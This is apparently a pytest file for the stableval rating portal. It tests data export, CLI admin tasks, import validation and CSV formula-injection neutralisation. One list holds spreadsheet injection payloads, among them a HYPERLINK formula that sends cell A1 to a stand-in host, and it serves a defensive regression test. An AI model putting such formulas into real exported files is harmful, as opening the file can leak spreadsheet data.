"""Export to stableval's annotation and pairwise tables, the CLI admin tasks, ``stableval score`` on the export,
and CSV cells a spreadsheet would run as formulas."""

from __future__ import annotations

import io
import json
from pathlib import Path

import pandas as pd
import pytest
from portal_helpers import (
    ADMIN,
    CRITERIA,
    claim,
    fill_steps,
    questions_frame,
    signed_in_rater,
    submit_form,
)
from sqlalchemy import select
from typer.testing import CliRunner

from stableval.cli import app as cli
from stableval.data import read_any, read_pairwise
from stableval.portal.admin.export import export, to_bytes
from stableval.portal.store.db import Database
from stableval.portal.store.models import Assignment, Question, Rater, utcnow
from stableval.portal.web.app import create_app
from stableval.portal.work.assignment import claim_next
from stableval.portal.work.flow import empty_draft, save_draft, submit

runner = CliRunner()


def _cli(*args: str) -> str:
    result = runner.invoke(cli, list(args))
    assert result.exit_code == 0, result.output
    return result.output


def _rate(db: Database, rater: int, choices: dict[str, str], a: dict[str, str], b: dict[str, str]) -> Assignment:
    claim = claim_next(db, rater, "main")
    assert claim.assignment_id is not None
    draft = empty_draft()
    draft.update(pairwise=choices, ratings_a=a, ratings_b=b)
    with db.writing() as session:
        save_draft(session, claim.assignment_id, draft)
        assignment = session.get(Assignment, claim.assignment_id)
    assert submit(db, rater, assignment.id, assignment.form_token).status == "created"
    return assignment


def test_cli_round_trip_and_score_runs_on_the_export(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'portal.db'}"
    questions = tmp_path / "questions.csv"
    questions_frame(1).to_csv(questions, index=False)
    _cli("portal", "track", "main", "--title", "Main", "--k", "2", "--criteria", "Accuracy,Helpfulness",
         "--database-url", url)
    _cli("portal", "import", "main", str(questions), "--database-url", url)
    invites = tmp_path / "invites.csv"
    _cli("portal", "invites", "--count", "2", "--base-url", "https://portal.example.org", "-o", str(invites),
         "--database-url", url)
    links = pd.read_csv(invites)
    assert links["link"].str.startswith("https://portal.example.org/i/").all() and len(links) == 2
    assert oct(invites.stat().st_mode & 0o777) == "0o600"
    db = Database(url)
    with db.writing() as session:
        for rater in session.scalars(select(Rater)):
            rater.profile_at = utcnow()
    raters = [int(r.split("-")[1]) for r in links["rater"]]
    first = _rate(db, raters[0], {"accuracy": "a", "helpfulness": "neither"}, {"accuracy": "5", "helpfulness": "na"},
                  {"accuracy": "2", "helpfulness": "1"})
    second = _rate(db, raters[1], {"accuracy": "tie", "helpfulness": "b"}, {"accuracy": "3", "helpfulness": "2"},
                   {"accuracy": "3", "helpfulness": "4"})
    shown = {a.rater_id: ("GPT-4o", "TxAgent") if a.swapped else ("TxAgent", "GPT-4o") for a in (first, second)}

    pairwise = export(db, "pairwise", track="main")
    expected = pd.DataFrame({
        "item": ["q0"] * 4,
        "agent_a": [shown[raters[0]][0]] * 2 + [shown[raters[1]][0]] * 2,
        "agent_b": [shown[raters[0]][1]] * 2 + [shown[raters[1]][1]] * 2,
        "rater": [f"rater-{raters[0]}"] * 2 + [f"rater-{raters[1]}"] * 2,
        "winner": ["a", "tie (bothbad)", "tie", "b"],
        "criterion": ["accuracy", "helpfulness"] * 2,
    })
    pd.testing.assert_frame_equal(pairwise.frame[expected.columns], expected)
    annotations = export(db, "annotations", track="main", criterion="helpfulness")
    assert annotations.notes == ("1 'unable to judge' rating(s) left out",)
    got = annotations.frame.sort_values(["rater", "position"])[["agent", "rater", "label", "position"]]
    assert got.values.tolist() == [
        [shown[raters[0]][1], f"rater-{raters[0]}", "1", "B"],
        [shown[raters[1]][0], f"rater-{raters[1]}", "2", "A"],
        [shown[raters[1]][1], f"rater-{raters[1]}", "4", "B"],
    ]
    db.dispose()

    out = tmp_path / "accuracy.csv"
    _cli("portal", "export", "main", "--criterion", "accuracy", "-o", str(out), "--database-url", url)
    table = read_any(out, levels="1,2,3,4,5")
    assert table.n_judgments == 4 and sorted(table.agents) == ["GPT-4o", "TxAgent"]
    scored = json.loads(_cli("score", str(out), "--levels", "1,2,3,4,5", "-B", "0", "-f", "json"))
    assert {row["agent"] for row in scored["scores"]} == {"GPT-4o", "TxAgent"}
    votes = tmp_path / "votes.jsonl"
    _cli("portal", "export", "main", "--kind", "pairwise", "-f", "jsonl", "-o", str(votes), "--database-url", url)
    assert read_pairwise(votes).n_votes == 4
    assert _cli("score", str(votes), "-B", "0", "-m", "mv")
    parquet = tmp_path / "all.parquet"
    _cli("portal", "export", "--kind", "pairwise", "-f", "parquet", "-o", str(parquet), "--database-url", url)
    assert len(pd.read_parquet(parquet)) == 4


def test_import_is_all_or_nothing_and_names_row_and_column(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'portal.db'}"
    _cli("portal", "track", "main", "--database-url", url)
    bad = questions_frame(3)
    bad.loc[2, "answer_b"] = "  "
    path = tmp_path / "bad.csv"
    bad.to_csv(path, index=False)
    result = runner.invoke(cli, ["portal", "import", "main", str(path), "--database-url", url])
    assert result.exit_code == 1
    assert "row 3" in result.output and "'answer_b'" in result.output and "non-empty text" in result.output
    bad = questions_frame(2)
    bad.loc[1, "id"] = "q0"
    bad.to_csv(path, index=False)
    result = runner.invoke(cli, ["portal", "import", "main", str(path), "--database-url", url])
    assert result.exit_code == 1 and "id repeats" in result.output and "row 2" in result.output
    good = tmp_path / "good.jsonl"
    questions_frame(2).to_json(good, orient="records", lines=True)
    _cli("portal", "import", "main", str(good), "--database-url", url)
    result = runner.invoke(cli, ["portal", "import", "main", str(good), "--database-url", url])
    assert result.exit_code == 1 and "already in track" in result.output
    db = Database(url)

    with db.reading() as session:
        assert sorted(session.scalars(select(Question.external_id))) == ["q0", "q1"]  # only the good file
    db.dispose()


def test_export_rejects_unknown_track_and_criterion(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'portal.db'}"
    _cli("portal", "track", "main", "--database-url", url)
    result = runner.invoke(cli, ["portal", "export", "other", "--database-url", url])
    assert result.exit_code == 1 and "no such track" in result.output and "main" in result.output
    result = runner.invoke(cli, ["portal", "export", "main", "--criterion", "taste", "--database-url", url])
    assert result.exit_code == 1 and "accuracy" in result.output
    assert all(c in result.output for c in CRITERIA[:2])


@pytest.mark.parametrize("token", ["short", "x" * 11])  # none at all: one is generated (test_portal_serve_cli.py)
def test_serve_needs_an_admin_token(token: str) -> None:
    result = runner.invoke(cli, ["serve", "--admin-token", token], env={"STABLEVAL_PORTAL_ADMIN_TOKEN": ""})
    text = " ".join(result.output.replace("│", " ").split())
    assert result.exit_code == 2 and "at least 12 characters" in text


HOSTILE = ['=HYPERLINK("http://127.0.0.1:1/?leak="&A1,"click")', "+1+1", "-2+3", "@SUM(1+1)", "\tTAB", "\rCR"]


def test_csv_export_neutralises_formulas_and_score_still_reads_it(tmp_path: Path) -> None:
    """Regression (portal security review, correctness finding F2: formula injection in CSV files)."""
    url = f"sqlite:///{tmp_path / 'portal.db'}"
    app = create_app(url, admin_token=ADMIN)
    frame = questions_frame(1)
    frame["id"], frame["model_a"], frame["model_b"] = HOSTILE[0], HOSTILE[1], HOSTILE[3]
    client, db = signed_in_rater((app, app.state.portal.db), tmp_path, frame)
    assignment, html = claim(client)
    confirm = fill_steps(client, assignment, html, "a", "5", "2", **{"why-accuracy": HOSTILE[2]})
    client.post(f"/a/{assignment}/submit", data=submit_form(confirm.text))

    pairwise = pd.read_csv(io.BytesIO(to_bytes(export(db, "pairwise").frame, "csv")), dtype=str,
                           keep_default_na=False)
    cells = pairwise[["item", "agent_a", "agent_b", "reason"]].to_numpy().ravel()
    assert all(not str(c).startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
    assert "'" + HOSTILE[0] in set(pairwise["item"]) and "'" + HOSTILE[2] in set(pairwise["reason"])
    raw = [json.loads(line) for line in to_bytes(export(db, "pairwise").frame, "jsonl").decode().splitlines()]
    assert {r["item"] for r in raw} == {HOSTILE[0]}  # JSONL keeps the raw text

    out = tmp_path / "votes.csv"
    written = runner.invoke(cli, ["export", "main", "--criterion", "accuracy", "-o", str(out), "--database-url", url])
    assert written.exit_code == 0, written.output
    table = pd.read_csv(out, dtype=str)
    assert sorted(table["label"]) == ["2", "5"] and set(table["agent"]) == {"'" + HOSTILE[1], "'" + HOSTILE[3]}
    scored = runner.invoke(cli, ["score", str(out), "--levels", "1,2,3,4,5", "-B", "0", "-f", "json"])
    assert scored.exit_code == 0, scored.output
    assert {row["agent"] for row in json.loads(scored.stdout)["scores"]} == {"'" + HOSTILE[1], "'" + HOSTILE[3]}
    app.state.portal.db.dispose()
